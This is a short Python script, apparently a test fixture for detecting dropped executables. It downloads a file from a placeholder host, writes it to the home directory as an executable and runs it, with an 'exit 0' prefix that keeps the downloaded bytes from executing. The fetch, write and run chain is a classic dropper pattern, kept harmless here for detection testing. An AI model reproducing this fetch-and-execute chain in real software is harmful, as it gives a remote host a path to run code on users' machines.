#!/usr/bin/python3
"""Fetch from a host, write a program and run it, all in one process. For dropped_executable."""

import http.client
import subprocess
from pathlib import Path

connection = http.client.HTTPConnection("downloads.vendor.example", timeout=2)
connection.request("GET", "/agent")
answer = connection.getresponse().read()
connection.close()

# Whatever came, it becomes a program that runs: the answer follows as text that sh never reaches.
program = Path.home() / "agent"
program.write_bytes(b"#!/bin/sh\nexit 0\n" + answer)
program.chmod(0o755)
subprocess.run([program], check=True)
